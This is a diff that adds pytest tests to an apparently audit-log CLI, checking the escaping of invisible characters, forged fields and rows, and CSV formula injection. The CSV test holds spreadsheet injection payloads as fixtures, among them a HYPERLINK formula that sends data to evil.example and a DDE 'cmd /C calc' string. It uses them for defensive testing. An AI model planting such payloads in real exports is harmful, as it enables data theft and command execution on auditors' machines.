@@ -415,6 +415,23 @@ def test_tail_quotes_identity_fields_so_a_value_cannot_forge_another_field(tmp_p
     assert "project=" not in unquoted
 
 
+def test_tail_quotes_a_stored_event_type_so_it_cannot_forge_a_field(tmp_path: Path) -> None:
+    """Another writer's row may hold any event type text; `tail` must not show it as a `user=` field."""
+    path = tmp_path / "type.db"
+    prepare(path, [])
+    with sqlite3.connect(path) as connection:
+        connection.execute(
+            "INSERT INTO audit_log (timestamp, event_type, details) VALUES (?, ?, ?)",
+            (NOW.isoformat(), "auth_success  user=root", "{}"),
+        )
+    connection.close()
+    result = run("tail", "--db", str(path), cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    line = result.stdout.strip()
+    assert '"auth_success  user=root"' in line
+    assert "user=" not in re.sub(r'"(?:[^"\\]|\\.)*"', '""', line)
+
+
 INVISIBLE = "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
 
 
@@ -443,6 +460,62 @@ def test_line_separators_and_bidi_controls_are_escaped_like_control_characters(t
     assert not set(as_json) & set(INVISIBLE)  # JSON escapes them (\\u2028), so line-splitting readers cope
     raw = jsonl(as_json)
     assert raw[0]["user_identity"] == "mallory\u202enimda"  # and decodes to the stored value
+
+
+def test_a_locale_that_cannot_encode_stored_text_still_shows_every_row(tmp_path: Path) -> None:
+    """Under an ASCII locale (LC_ALL=C without Python's UTF-8 mode), non-ASCII values must not stop the output.
+
+    Human output shows what the locale cannot encode as escapes; JSON Lines and CSV are UTF-8, exact.
+    """
+    path = tmp_path / "accents.db"
+    prepare(path, [DomainEvent(event_type=EventType.AUTH_FAILURE, user_identity="José", details={"city": "Zürich"})])
+    env = clean_env(LC_ALL="C", LANG="C", PYTHONUTF8="0")
+    env.pop("PYTHONIOENCODING", None)
+    for command in (["query"], ["tail"], ["stats"]):
+        result = subprocess.run(
+            [sys.executable, "-m", "auditbus", *command, "--db", str(path)],
+            check=False,
+            cwd=tmp_path,
+            env=env,
+            capture_output=True,
+            timeout=120,
+        )
+        assert result.returncode == 0, result.stderr
+        assert result.stdout.isascii()
+        if command != ["stats"]:
+            assert b"Jos\\xe9" in result.stdout
+    for command in (["query", "--json"], ["export"], ["export", "--format", "csv"], ["query", "--csv"]):
+        result = subprocess.run(
+            [sys.executable, "-m", "auditbus", *command, "--db", str(path)],
+            check=False,
+            cwd=tmp_path,
+            env=env,
+            capture_output=True,
+            timeout=120,
+        )
+        assert result.returncode == 0, result.stderr
+        text = result.stdout.decode("utf-8")
+        if "--json" in command or command == ["export"]:
+            assert jsonl(text)[0]["user_identity"] == "José"
+        else:
+            assert next(csv.DictReader(io.StringIO(text)))["user_identity"] == "José"
+
+
+ZERO_WIDTH = "\u00ad\u200b\u200c\u200d\u2060\ufeff"
+
+
+def test_invisible_characters_are_escaped_so_a_name_cannot_pass_for_another(tmp_path: Path) -> None:
+    """`alice` + a zero-width space is another user that looks like alice on screen: it is shown escaped."""
+    path = tmp_path / "invisible.db"
+    prepare(
+        path, [DomainEvent(event_type=EventType.AUTH_SUCCESS, user_identity="alice\u200b", details={"k": ZERO_WIDTH})]
+    )
+    for command in (["query"], ["tail"]):
+        result = run(*command, "--db", str(path), cwd=tmp_path)
+        assert result.returncode == 0, result.stderr
+        assert not set(result.stdout) & set(ZERO_WIDTH), command
+        assert "alice\\u200b" in result.stdout
+    assert jsonl(run("query", "--json", "--db", str(path), cwd=tmp_path).stdout)[0]["user_identity"] == "alice\u200b"
 
 
 # --------------------------------------------------------------------------- choosing the database
@@ -579,6 +652,27 @@ def test_verify_reports_unchained_legacy_rows(aged_trail: Path) -> None:
     assert "2 legacy rows written before the hash chain" in result.stdout
 
 
+def test_verify_read_only_does_not_call_rows_appended_after_the_chain_legacy_rows(aged_trail: Path) -> None:
+    """Rows inserted without a hash after the newest chained row are not "written before the hash chain"."""
+    with sqlite3.connect(aged_trail) as connection:
+        for user in ("mallory", "eve", "trudy"):
+            connection.execute(
+                "INSERT INTO audit_log (timestamp, event_type, user_identity, details) VALUES (?, ?, ?, '{}')",
+                (NOW.isoformat(), "auth_success", user),
+            )
+    connection.close()
+    result = run("--read-only", "verify", "--db", str(aged_trail), cwd=aged_trail.parent)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "2 legacy rows written before the hash chain" in result.stdout
+    assert "3 rows appended without a hash after the newest chained row" in result.stdout
+    assert (
+        json.loads(run("--read-only", "verify", "--json", "--db", str(aged_trail), cwd=aged_trail.parent).stdout)[
+            "unchained"
+        ]
+        == 5
+    )
+
+
 def test_verify_names_the_removed_newest_rows(trail: Path) -> None:
     with sqlite3.connect(trail) as connection:
         rows = [row[0] for row in connection.execute("SELECT id FROM audit_log ORDER BY id")]
@@ -636,6 +730,86 @@ def test_export_csv_to_a_file_with_filters(trail: Path) -> None:
         rows = list(csv.DictReader(handle))
     assert [row["event_type"] for row in rows] == ["plan_cancelled", "auth_failure"]
     assert sorted(p.name for p in target.parent.iterdir()) == ["bob.csv"]  # no partial file left behind
+
+
+def run_bytes(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
+    """`run` without text=True: universal newlines would turn a stored CR into a line break."""
+    return subprocess.run(
+        [sys.executable, "-m", "auditbus", *args],
+        check=False,
+        cwd=cwd,
+        env=clean_env(),
+        capture_output=True,
+        timeout=120,
+    )
+
+
+def test_a_carriage_return_in_a_stored_value_cannot_forge_a_csv_row(tmp_path: Path) -> None:
+    """CSV readers (Python's, spreadsheets) end a row at a bare CR: a cell holding one must be quoted."""
+    path = tmp_path / "cr.db"
+    # The cells after the CR read as a row of their own: id 99, a time, auth_success by root.
+    event = DomainEvent(
+        event_type=EventType.AUTH_FAILURE,
+        user_identity="mallory\r99",
+        actor_name="2026-01-01T00:00:00Z",
+        plan_id="auth_success",
+        project_name="root",
+        details={"note": "a\rb"},
+    )
+    prepare(path, [event])
+    for command in (["export", "--format", "csv"], ["query", "--csv"]):
+        result = run_bytes(*command, "--db", str(path), cwd=tmp_path)
+        assert result.returncode == 0, result.stderr
+        rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
+        assert [row["user_identity"] for row in rows] == ["mallory\r99"]
+        assert rows[0]["project_name"] == "root"
+        assert json.loads(rows[0]["details"])["note"] == "a\rb"
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_reversibly(tmp_path: Path) -> None:
+    """OWASP CSV injection: a stored value such as `=HYPERLINK(...)` must reach the auditor's spreadsheet as text.
+
+    Such a cell (and one already starting with a quote) gets one leading `'`; removing it gives the stored value.
+    """
+    path = tmp_path / "formulas.db"
+    prepare(
+        path,
+        [
+            DomainEvent(
+                event_type=EventType.AUTH_FAILURE,
+                user_identity='=HYPERLINK("http://evil.example/?"&A1,"open")',
+                actor_name="+1+cmd|' /C calc'!A0",
+                plan_id="-2+3",
+                project_name="@SUM(A1:A9)",
+                session_id="\t=1+1",
+                details={"note": "fine"},
+            ),
+            DomainEvent(event_type=EventType.AUTH_FAILURE, user_identity="\r=1+1", actor_name="'quoted"),
+        ],
+    )
+    with sqlite3.connect(path) as connection:  # another writer: details that are a bare JSON number
+        connection.execute(
+            "INSERT INTO audit_log (timestamp, event_type, outcome, details) VALUES (?, ?, ?, ?)",
+            (NOW.isoformat(), "auth_failure", "=2*3", "-1"),
+        )
+    connection.close()
+    stored = jsonl(run("export", "--db", str(path), cwd=tmp_path).stdout)
+    for command in (["export", "--format", "csv"], ["query", "--csv", "--asc"]):
+        result = run_bytes(*command, "--db", str(path), cwd=tmp_path)
+        assert result.returncode == 0, result.stderr
+        rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
+        assert len(rows) == len(stored) == 3
+        for row, expected in zip(rows, stored, strict=True):
+            for name, cell in row.items():
+                assert not cell.startswith(FORMULA_STARTS), (name, cell)
+                value = cell[1:] if cell.startswith("'") else cell
+                if name in ("user_identity", "actor_name", "plan_id", "project_name", "session_id", "outcome"):
+                    assert value == (expected[name] or ""), name
+        assert json.loads(rows[2]["details"][1:]) == -1
+        assert rows[1]["actor_name"] == "''quoted"
 
 
 def test_export_into_a_missing_directory_is_one_error_line(trail: Path) -> None:
@@ -916,6 +1090,39 @@ def test_a_directory_is_not_a_database(tmp_path: Path) -> None:
 )
 def test_bad_usage_is_one_error_line_with_status_2(trail: Path, args: list[str], fragments: list[str]) -> None:
     assert_one_error_line(run(*args, "--db", str(trail), cwd=trail.parent), 2, *fragments)
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["query", "--limit", "99999999999999999999"],
+        ["query", "--offset", "9223372036854775808"],
+        ["tail", "-n", "99999999999999999999"],
+    ],
+)
+def test_a_count_beyond_what_sqlite_can_hold_is_bad_usage(trail: Path, args: list[str]) -> None:
+    """SQLite counts rows in 64 bits: a larger --limit, --offset or -n is refused, not an OverflowError."""
+    assert_one_error_line(run(*args, "--db", str(trail), cwd=trail.parent), 2, args[1], args[2], "at most")
+    result = run(args[0], args[1], str(2**63 - 1), "--db", str(trail), cwd=trail.parent)
+    assert result.returncode == 0, result.stderr
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["purge", "--before", "0001-01-01T00:00:00+01:00", "--yes"],
+        ["query", "--since", "0001-01-01T00:00:00+01:00", "--until", "0001-01-01T00:00:00+02:00"],
+        ["query", "--until", "9999-12-31T23:59:59-05:00"],
+    ],
+)
+def test_a_date_outside_the_years_1_to_9999_in_utc_is_bad_usage(trail: Path, args: list[str]) -> None:
+    """Read as UTC, these dates fall outside what a date can hold: refused before anything is done."""
+    with AuditService(str(trail)) as service:
+        purged_before = service.count(event_type="audit_purged")
+    assert_one_error_line(run(*args, "--db", str(trail), cwd=trail.parent), 2, args[1], args[2], "UTC")
+    with AuditService(str(trail)) as service:
+        assert service.count(event_type="audit_purged") == purged_before
+    assert count_rows(trail) == 5
 
 
 def test_dates_that_cannot_match_are_bad_usage(trail: Path) -> None:
